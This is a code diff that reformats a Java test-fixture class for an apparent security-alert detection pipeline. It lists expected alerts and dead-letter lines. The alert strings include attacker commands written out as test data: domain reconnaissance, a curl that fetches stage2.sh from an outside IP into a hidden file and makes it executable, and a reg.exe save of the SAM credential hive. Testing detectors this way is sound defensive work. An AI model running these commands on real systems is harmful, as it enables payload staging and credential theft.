@@ -22,38 +22,36 @@ import java.util.stream.Stream;
  */
 public final class Testdata {
     /** The alerts the spec defines for testdata/, derived by hand: rule, time, host, what ran. */
-    public static final List<String> EXPECTED_ALERTS =
-            List.of(
-                    "R2 2026-03-10T09:14:30.412Z win-web-01 hostname.exe",
-                    "R1 2026-03-10T09:15:02.123Z win-web-01 \"C:\\Windows\\system32\\whoami.exe\" /all"
-                            + " | \"C:\\Windows\\system32\\net.exe\" user /domain",
-                    "R2 2026-03-10T09:15:05.100Z win-web-01 conhost.exe",
-                    "R2 2026-03-10T09:15:05.350Z win-web-01 whoami.exe",
-                    "R2 2026-03-10T09:15:06.020Z win-web-01 net.exe",
-                    "R1 2026-03-10T09:16:10.555Z win-web-01 \"C:\\Windows\\system32\\ipconfig.exe\" /all",
-                    "R2 2026-03-10T09:16:12.200Z win-web-01 conhost.exe",
-                    "R2 2026-03-10T09:16:12.500Z win-web-01 ipconfig.exe",
-                    "R1 2026-03-10T10:01:58.700Z lnx-db-02 curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"
-                            + " | chmod +x /tmp/.s",
-                    "R2 2026-03-10T10:02:01.000Z lnx-db-02 bash",
-                    "R2 2026-03-10T10:02:01.004Z lnx-db-02 curl",
-                    "R2 2026-03-10T10:02:01.950Z lnx-db-02 chmod",
-                    "R2 2026-03-10T11:20:30.000Z lnx-build-05 tar",
-                    "R1 2026-03-10T12:30:00.250Z win-sql-03 C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\"",
-                    "R2 2026-03-10T12:30:04.880Z win-sql-03 cmd.exe",
-                    "R1 2026-03-10T13:45:10.000Z win-app-04 reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
-                    "R2 2026-03-10T13:45:16.100Z win-app-04 conhost.exe",
-                    "R2 2026-03-10T13:45:16.321Z win-app-04 reg.exe");
+    public static final List<String> EXPECTED_ALERTS = List.of(
+            "R2 2026-03-10T09:14:30.412Z win-web-01 hostname.exe",
+            "R1 2026-03-10T09:15:02.123Z win-web-01 \"C:\\Windows\\system32\\whoami.exe\" /all"
+                    + " | \"C:\\Windows\\system32\\net.exe\" user /domain",
+            "R2 2026-03-10T09:15:05.100Z win-web-01 conhost.exe",
+            "R2 2026-03-10T09:15:05.350Z win-web-01 whoami.exe",
+            "R2 2026-03-10T09:15:06.020Z win-web-01 net.exe",
+            "R1 2026-03-10T09:16:10.555Z win-web-01 \"C:\\Windows\\system32\\ipconfig.exe\" /all",
+            "R2 2026-03-10T09:16:12.200Z win-web-01 conhost.exe",
+            "R2 2026-03-10T09:16:12.500Z win-web-01 ipconfig.exe",
+            "R1 2026-03-10T10:01:58.700Z lnx-db-02 curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"
+                    + " | chmod +x /tmp/.s",
+            "R2 2026-03-10T10:02:01.000Z lnx-db-02 bash",
+            "R2 2026-03-10T10:02:01.004Z lnx-db-02 curl",
+            "R2 2026-03-10T10:02:01.950Z lnx-db-02 chmod",
+            "R2 2026-03-10T11:20:30.000Z lnx-build-05 tar",
+            "R1 2026-03-10T12:30:00.250Z win-sql-03 C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\"",
+            "R2 2026-03-10T12:30:04.880Z win-sql-03 cmd.exe",
+            "R1 2026-03-10T13:45:10.000Z win-app-04 reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
+            "R2 2026-03-10T13:45:16.100Z win-app-04 conhost.exe",
+            "R2 2026-03-10T13:45:16.321Z win-app-04 reg.exe");
 
     /** The dead letters of testdata/: stream, file and line (and batch index), error type. */
-    public static final List<String> EXPECTED_DEAD_LETTERS =
-            List.of(
-                    "activity testdata/activity/1-eventhub-azure-monitor.ndjson:3 invalid_json",
-                    "activity testdata/activity/1-eventhub-azure-monitor.ndjson:5 records[1] invalid_timestamp",
-                    "activity testdata/activity/2-elastic-azure-activitylogs.ndjson:4 missing_timestamp",
-                    "process testdata/process/1-defend-windows.ndjson:7 invalid_field",
-                    "process testdata/process/2-defend-linux.ndjson:8 invalid_json",
-                    "process testdata/process/3-sysmon.ndjson:5 missing_timestamp");
+    public static final List<String> EXPECTED_DEAD_LETTERS = List.of(
+            "activity testdata/activity/1-eventhub-azure-monitor.ndjson:3 invalid_json",
+            "activity testdata/activity/1-eventhub-azure-monitor.ndjson:5 records[1] invalid_timestamp",
+            "activity testdata/activity/2-elastic-azure-activitylogs.ndjson:4 missing_timestamp",
+            "process testdata/process/1-defend-windows.ndjson:7 invalid_field",
+            "process testdata/process/2-defend-linux.ndjson:8 invalid_json",
+            "process testdata/process/3-sysmon.ndjson:5 missing_timestamp");
 
     /** Noise an hour after testdata/ ends: produced to every partition, it moves every watermark past the data. */
     public static final String ACTIVITY_TICK =
@@ -77,7 +75,8 @@ public final class Testdata {
         } else {
             detail = alert.at("/process/name").asText();
         }
-        return rule + " " + alert.at("/@timestamp").asText() + " " + alert.at("/host/name").asText() + " " + detail;
+        return rule + " " + alert.at("/@timestamp").asText() + " "
+                + alert.at("/host/name").asText() + " " + detail;
     }
 
     /** One dead letter as a line of {@link #EXPECTED_DEAD_LETTERS}. */
@@ -88,7 +87,9 @@ public final class Testdata {
                 + origin.at("/file").asText()
                 + ":"
                 + origin.at("/line").asLong()
-                + (origin.has("record_index") ? " records[" + origin.at("/record_index").asInt() + "]" : "")
+                + (origin.has("record_index")
+                        ? " records[" + origin.at("/record_index").asInt() + "]"
+                        : "")
                 + " "
                 + deadLetter.at("/error/type").asText();
     }
